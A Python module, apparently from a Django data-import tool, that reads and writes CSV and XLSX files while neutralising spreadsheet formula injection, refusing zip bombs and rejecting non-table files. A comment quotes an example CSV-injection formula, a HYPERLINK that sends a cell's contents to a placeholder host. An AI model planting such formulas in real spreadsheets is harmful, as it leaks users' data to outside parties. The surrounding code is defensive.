"""Read and write plain tables (CSV or XLSX) row by row, without holding the file in memory."""

import csv
import io
from collections.abc import Iterator
from pathlib import Path

XLSX_MAGIC = b"PK\x03\x04"

# A spreadsheet program runs a cell that starts with one of these as a formula (OWASP,
# "CSV injection"): `=HYPERLINK("http://x/?"&B3,"x")` typed as a first name must stay text.
FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def escape_formula(value):
    """Make a text cell inert for spreadsheet programs, reversibly (see unescape_formula).

    A text starting with a formula character gets a leading apostrophe, as OWASP advises;
    a text that already starts with apostrophes before such a character gets one more, so
    that unescaping gives back exactly what was there. Numbers and dates are left alone.
    """
    if not isinstance(value, str) or not value:
        return value
    if value.lstrip("'").startswith(FORMULA_START):
        return "'" + value
    return value


def unescape_formula(value):
    """Undo escape_formula on a cell read from a file that Himoya (or a careful tool) wrote."""
    if (
        isinstance(value, str)
        and value.startswith("'")
        and value.lstrip("'").startswith(FORMULA_START)
    ):
        return value[1:]
    return value


# What an honest spreadsheet or ODK export unpacks to; a "zip bomb" claims far more.
MAX_UNPACKED = 300 * 1024 * 1024
MAX_RATIO = 150  # per member above 1 MB; real XLSX sheets compress 5-40 times
MAX_MEMBERS = 20_000


class UnsafeFileError(ValueError):
    """A file that would take far more memory or disk to open than its size suggests."""


def check_archive(path: Path) -> None:
    """Refuse a zip-based file (XLSX, ODS, ODK zip) whose unpacked size or ratio is absurd.

    Checked from the archive's directory before anything is unpacked; zipfile then stops
    every member at its declared size, so the declared sizes are the real bound.
    """
    import zipfile

    from django.utils.translation import gettext as _

    try:
        with zipfile.ZipFile(path) as zf:
            members = zf.infolist()
    except (zipfile.BadZipFile, OSError):
        return  # not an archive after all: the format's reader says what is wrong
    total = sum(m.file_size for m in members)
    greedy = [
        m
        for m in members
        if m.file_size > 1024 * 1024 and m.file_size > MAX_RATIO * max(m.compress_size, 1)
    ]
    if len(members) > MAX_MEMBERS or total > MAX_UNPACKED or greedy:
        raise UnsafeFileError(
            _(
                "This file unpacks to far more data than a spreadsheet of its size holds "
                "(%(mb)s MB); it was not opened. Save it again from the spreadsheet program, "
                "or split it."
            )
            % {"mb": total // (1024 * 1024)}
        )


class NotDataError(ValueError):
    """A file that is not a table this import can read: its message says why, for people."""


# First bytes of files that are sometimes given instead of a table.
_NOT_TABLES = [
    (b"%PDF", "pdf"),
    (b"MZ", "program"),
    (b"\x7fELF", "program"),
    (b"\xcf\xfa\xed\xfe", "program"),
    (b"\xce\xfa\xed\xfe", "program"),
    (b"\xca\xfe\xba\xbe", "program"),
    (b"#!", "program"),
    (b"\x89PNG", "image"),
    (b"\xff\xd8\xff", "image"),
    (b"GIF8", "image"),
    (b"\xd0\xcf\x11\xe0", "old_office"),
    (b"Rar!", "archive"),
    (b"7z\xbc\xaf", "archive"),
    (b"\x1f\x8b", "archive"),
]
# Text encodings a spreadsheet program saves CSV in (Excel in a Russian or Tajik locale
# writes Windows-1251); anything else is more likely a wrong guess than the truth.
TEXT_ENCODINGS = (
    "utf_8", "utf_16", "utf_16_le", "utf_16_be", "cp1251", "koi8_r", "cp866", "mac_cyrillic",
    "cp1252", "latin_1", "iso8859_5", "ascii",
)  # fmt: skip
SAMPLE = 1 << 20


def not_data_message(kind: str) -> str:
    from django.utils.translation import gettext as _

    what = {
        "pdf": _("a PDF document"),
        "program": _("a program"),
        "image": _("an image"),
        "old_office": _("an old-style Excel or Word file (XLS or DOC)"),
        "archive": _("a compressed archive"),
        "binary": _("not text and not a spreadsheet"),
        "damaged": _("a damaged or unfinished spreadsheet"),
        "unreadable": _("a file that could not be read as a table"),
    }[kind]
    return _(
        "This file is %(what)s, not a table of records. Nothing was imported. Open the "
        "data in the spreadsheet program and save them as XLSX or as CSV, then choose that "
        "file."
    ) % {"what": what}


def encoding_message() -> str:
    from django.utils.translation import gettext as _

    return _(
        "The text of this CSV file is in an encoding that could not be recognised. Nothing "
        "was imported. In Excel choose “Save as” → “CSV UTF-8 (comma delimited)”, or save "
        "the file as XLSX, and choose that file."
    )


def _is_text(sample: bytes) -> bool:
    if sample.startswith((b"\xff\xfe", b"\xfe\xff")):
        return True  # UTF-16 with its byte-order mark
    if b"\x00" in sample:
        return False
    control = sum(1 for b in sample if b < 9 or 13 < b < 32)
    return control <= len(sample) // 200


def text_encoding(sample: bytes) -> str:
    """Return the encoding of a CSV file's first bytes, or raise NotDataError."""
    try:
        sample.decode("utf-8-sig")
        return "utf-8-sig"
    except UnicodeDecodeError as exc:
        if exc.start >= len(sample) - 3 and len(sample) >= SAMPLE:
            return "utf-8-sig"  # a character cut at the end of the sample
    from charset_normalizer import from_bytes

    best = from_bytes(sample, cp_isolation=list(TEXT_ENCODINGS)).best()
    if best is None or best.encoding not in TEXT_ENCODINGS:
        raise NotDataError(encoding_message())
    return best.encoding


def check_data(sample: bytes, fileobj) -> None:
    """Refuse a file that is no table, from its first bytes (`fileobj`: the whole file).

    Raises NotDataError, with a message in the active language, for a PDF, a program,
    an image, an archive, a damaged spreadsheet, random bytes, or text in an encoding
    that cannot be recognised.
    """
    import zipfile

    for magic, kind in _NOT_TABLES:
        if sample.startswith(magic):
            raise NotDataError(not_data_message(kind))
    if sample.startswith(XLSX_MAGIC):
        try:
            with zipfile.ZipFile(fileobj) as zf:
                zf.infolist()
        except (zipfile.BadZipFile, OSError) as exc:
            raise NotDataError(not_data_message("damaged")) from exc
        return
    if sample.startswith(b"ARROW1"):
        return
    if not _is_text(sample):
        raise NotDataError(not_data_message("binary"))
    text_encoding(sample)


def check_data_file(path: Path) -> None:
    with open(path, "rb") as fh:
        check_data(fh.read(SAMPLE), fh)


def file_encoding(path: Path) -> str:
    """The encoding to read a CSV (or XML-less text) file with."""
    with open(path, "rb") as fh:
        return text_encoding(fh.read(SAMPLE))


def sniff_kind(path: Path) -> str:
    """Tell a file's kind from its first bytes and name: xlsx, zip, feather, xml or csv."""
    with open(path, "rb") as fh:
        head = fh.read(8)
    name = path.name.lower()
    if head.startswith(b"ARROW1"):
        return "feather"
    if head.startswith(XLSX_MAGIC):
        return "xlsx" if name.endswith((".xlsx", ".xlsm")) or _is_xlsx(path) else "zip"
    if head.lstrip(b"\xef\xbb\xbf \r\n\t").startswith(b"<"):
        return "xml"
    return "csv"


def _is_xlsx(path: Path) -> bool:
    import zipfile

    with zipfile.ZipFile(path) as zf:
        return "xl/workbook.xml" in zf.namelist()


def read_table(path: Path) -> Iterator[list]:
    """Yield the rows of the first sheet of an XLSX file, or of a CSV file, as lists."""
    if sniff_kind(path) == "xlsx":
        from openpyxl import load_workbook

        wb = load_workbook(path, read_only=True, data_only=True)
        try:
            for row in wb.worksheets[0].iter_rows(values_only=True):
                yield [unescape_formula(v) for v in row]
        finally:
            wb.close()
        return
    with open(path, encoding=file_encoding(path), newline="") as fh:
        # The header line's most frequent separator: Excel in a Russian locale and
        # KoboToolbox write semicolons (csv.Sniffer guesses wrong on long headers).
        header = fh.readline()
        fh.seek(0)
        delimiter = max(",;\t", key=header.count)
        for row in csv.reader(fh, delimiter=delimiter):
            yield [unescape_formula(v) for v in row]


def write_csv(path_or_buffer, rows) -> None:
    own = not isinstance(path_or_buffer, io.TextIOBase)
    fh = open(path_or_buffer, "w", encoding="utf-8", newline="") if own else path_or_buffer
    try:
        writer = csv.writer(fh)
        for row in rows:
            writer.writerow([escape_formula(v) for v in row])
    finally:
        if own:
            fh.close()


def write_xlsx(path, rows, sheet_title: str = "Sheet1") -> None:
    from openpyxl import Workbook

    wb = Workbook(write_only=True)
    ws = wb.create_sheet(sheet_title)
    for row in rows:
        ws.append([escape_formula(v) for v in row])
    wb.save(path)
